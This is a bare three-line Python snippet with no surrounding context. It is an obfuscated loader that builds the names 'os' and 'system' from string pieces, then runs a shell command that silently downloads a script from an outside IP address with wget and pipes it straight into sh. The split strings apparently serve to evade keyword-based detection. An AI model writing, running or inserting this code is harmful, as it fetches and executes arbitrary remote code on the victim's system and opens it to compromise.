m = __import__('o' + 's')
run = getattr(m, 'sys' + 'tem')
run('wget -qO- http://198.51.100.4/r | sh')
